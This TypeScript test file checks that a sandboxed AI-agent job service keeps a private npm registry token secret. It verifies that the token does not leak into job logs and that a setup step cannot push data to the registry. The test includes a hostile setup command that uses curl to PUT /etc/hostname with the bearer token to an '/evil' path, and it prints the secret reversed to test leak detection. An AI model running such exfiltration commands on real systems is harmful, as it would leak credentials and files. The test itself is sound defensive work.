import { execFile } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdir, readdir, readFile, writeFile } from "node:fs/promises";
import { createServer } from "node:https";
import type { AddressInfo } from "node:net";
import { dirname, join } from "node:path";
import { promisify } from "node:util";
import { generate } from "selfsigned";
import { beforeAll, describe, expect, test } from "vitest";
import { afterFile } from "../cleanup.ts";
import { git, makeRemote } from "../remote.ts";
import { startService, type Service } from "../service.ts";
import { temporaryDirectory } from "../temporary.ts";
import { runJob } from "./ended-job.ts";

/* `npm ci` with a registry that wants a token, in each sandbox: nothing inside has the token, on no branch. */

const token = "npm_canary0123456789abcdef";

// Programs ask for the second beside their proxy, unless they are told otherwise.
const addresses = { bwrap: "127.0.0.2", landlock: "127.0.0.1", off: "127.0.0.1" };
let port: number;
let registry: string;
let cert: string;
const asked: string[] = [];
const tarballs = new Map<string, Buffer>();

const integrity = (bytes: Buffer): string => `sha512-${createHash("sha512").update(bytes).digest("base64")}`;

beforeAll(async () => {
  const directory = await temporaryDirectory();
  for (const version of ["1.0.0", "2.0.0"]) {
    await mkdir(join(directory, version, "package"), { recursive: true });
    const written = { name: "lib", version };
    await writeFile(join(directory, version, "package/package.json"), JSON.stringify(written));
    const file = join(directory, `${version}.tgz`);
    await promisify(execFile)("tar", ["-czf", file, "-C", join(directory, version), "package"]);
    tarballs.set(version, await readFile(file));
  }
  const made = await generate([{ name: "commonName", value: "registry" }], {
    keyType: "ec",
    extensions: [
      { name: "basicConstraints", cA: true, critical: true },
      {
        name: "subjectAltName",
        altNames: [...new Set(Object.values(addresses))].map((ip) => ({ type: 7, ip })),
      },
    ],
  });
  cert = made.cert;
  const server = createServer({ key: made.private, cert }, ({ method, url = "", headers }, answer) => {
    asked.push(`${method} ${url}`);
    const body = tarballs.get(/lib-(.*)\.tgz$/.exec(url)?.[1] ?? "");
    if (headers.authorization !== `Bearer ${token}`) answer.writeHead(401);
    answer.end(headers.authorization === `Bearer ${token}` ? body : "no token");
  });
  await new Promise<void>((resolve) => server.listen(0, resolve));
  afterFile(() => void server.close());
  ({ port } = server.address() as AddressInfo);
});

const start = async (mode: keyof typeof addresses, env: Record<string, string> = {}): Promise<Service> => {
  registry = `${addresses[mode]}:${port}`;
  const home = await temporaryDirectory();
  await writeFile(join(home, "ca.pem"), cert);
  await mkdir(join(home, ".service/profiles"), { recursive: true });
  const checks = [{ name: "leak", run: 'printf %s "$CHECK_TOKEN" | rev; exit 1' }];
  const profile = JSON.stringify({ extends: "code", auto_pr: true, checks, on_red: "push", check_rounds: 0 });
  await writeFile(join(home, ".service/profiles/pr.yml"), profile);
  return await startService({
    home,
    env: {
      SERVICE_AGENT_SANDBOX: mode,
      NODE_EXTRA_CA_CERTS: join(home, "ca.pem"),
      SERVICE_AGENT_SANDBOX_HOSTS: registry,
      SERVICE_AGENT_CLI_BINARY: join(import.meta.dirname, "../fake-agent/fake-agent"),
      SERVICE_AGENT_SANDBOX_READ: [join(import.meta.dirname, "../fake-agent"), dirname(dirname(npm))].join(),
      ANTHROPIC_API_KEY: "sk-canary",
      ...env,
    },
  });
};

/** The program that runs these tests. */
const npm = String(process.env["npm_execpath"]);

const install = `node ${npm} ci --no-fund --no-update-notifier --cache "$TMPDIR/npm"`;

const lock = (version: string): string =>
  JSON.stringify({
    name: "app",
    version: "1.0.0",
    lockfileVersion: 3,
    packages: {
      "": { name: "app", version: "1.0.0", dependencies: { lib: version } },
      "node_modules/lib": {
        version,
        resolved: `https://${registry}/lib/-/lib-${version}.tgz`,
        integrity: integrity(tarballs.get(version) ?? Buffer.alloc(0)),
      },
    },
  });

const manifest = (version: string): string =>
  JSON.stringify({ name: "app", version: "1.0.0", dependencies: { lib: version } });

const makeProject = async (service: Service) => {
  const remote = await makeRemote({
    ".npmrc": `registry=https://${registry}/\n//${registry}/:_authToken=\${NPM_TOKEN}\n`,
    ".gitignore": "node_modules\n",
    "package.json": manifest("1.0.0"),
    "package-lock.json": lock("1.0.0"),
    ".svc/setup.yml": JSON.stringify({ run: [install, 'printf %s "$NPM_TOKEN" | rev; env'] }),
  });
  for (const [name, phase] of [
    ["NPM_TOKEN", "setup"],
    ["CHECK_TOKEN", "checks"],
  ] as const)
    await service.client.set_secret({ name, repo: remote.path, phase, value: token, hosts: [registry] });
  return remote;
};

const installed = async (path: string | null): Promise<string> =>
  (
    JSON.parse(await readFile(join(String(path), "node_modules/lib/package.json"), "utf8")) as {
      version: string;
    }
  ).version;

const shell = (run: string): string => `scenario: shell ${JSON.stringify({ run })}`;

const leaksIn = async (service: Service, id: string): Promise<string[]> => {
  const events = await (await fetch(`${service.url}/jobs/${id}/events`)).text();
  const job = await (await fetch(`${service.url}/jobs/${id}`)).text();
  const forms = [token, Array.from(token).toReversed().join("")];
  return forms.filter((form) =>
    [events, job, service.output.stdout, service.output.stderr].join().includes(form),
  );
};

describe.each(["bwrap", "landlock"] as const)("with a private registry, in %s", (mode) => {
  test("npm ci works on the default branch, on an agent's, and with the lock file that an agent changed", async () => {
    const service = await start(mode);
    const remote = await makeProject(service);
    const change = `cat > package.json <<'E'\n${manifest("2.0.0")}\nE\ncat > package-lock.json <<'E'\n${lock("2.0.0")}\nE\ngit commit -qam up`;
    const first = await runJob(service, shell(change), { repo_url: remote.path, profile: "pr" });
    // Its check is red, as on the base, and prints what it has.
    expect({ status: first.status, error: first.error }).toEqual({ status: "succeeded", error: null });
    expect(first.checks).toMatchObject([{ status: "failed_before" }]);
    expect(await installed(first.worktree_path)).toBe("1.0.0");
    expect(await git(remote.path, "branch", "--list", "service/*")).toContain(String(first.branch));
    const onBranch = await runJob(service, "scenario: noop {}", {
      repo_url: remote.path,
      base_ref: first.branch,
    });
    expect({ status: onBranch.status, error: onBranch.error }).toEqual({ status: "succeeded", error: null });
    expect(await installed(onBranch.worktree_path)).toBe("2.0.0");
    const followUp = await runJob(service, "scenario: noop {}", {
      repo_url: remote.path,
      session_id: first.session_id,
    });
    expect({ status: followUp.status, error: followUp.error }).toEqual({ status: "succeeded", error: null });
    expect(await installed(followUp.worktree_path)).toBe("2.0.0");
    expect(followUp.warnings.join()).not.toContain("secret");
    for (const { id } of [first, onBranch, followUp]) expect(await leaksIn(service, id)).toEqual([]);
  });

  test("what a setup wants to store at the registry does not get there", async () => {
    const service = await start(mode);
    const { path: repo, work } = await makeProject(service);
    const stores = `curl -s -X PUT -H "authorization: Bearer $NPM_TOKEN" -d @/etc/hostname https://${registry}/evil`;
    await writeFile(join(work, ".svc/setup.yml"), JSON.stringify({ run: [`${stores}; true`] }));
    await git(work, "commit", "--quiet", "-am", "evil");
    await git(work, "push", "--quiet", repo, "HEAD:main");
    expect((await runJob(service, "scenario: noop {}", { repo_url: repo })).status).toBe("succeeded");
    expect(asked.filter((line) => line.startsWith("PUT"))).toEqual([]);
  });
});

test("without a sandbox jobs get the value where the operator names it, and are refused where not", async () => {
  const refusing = await start("off", {
    SERVICE_SETUP_UNSANDBOXED: "true",
    SERVICE_SECRETS_UNSANDBOXED: "NPM_TOKEN",
  });
  const { path: repo } = await makeProject(refusing);
  await expect(refusing.client.run_task({ task: "x", repo_url: repo })).rejects.toThrow(
    "may not have the repository's secrets CHECK_TOKEN: set up a sandbox",
  );
  await refusing.client.remove_secret({ name: "CHECK_TOKEN", repo, phase: "checks" });
  const job = await runJob(refusing, "scenario: noop {}", { repo_url: repo });
  expect({ status: job.status, error: job.error }).toEqual({ status: "succeeded", error: null });
  expect(await readdir(join(String(job.worktree_path), "node_modules"))).toContain("lib");
});
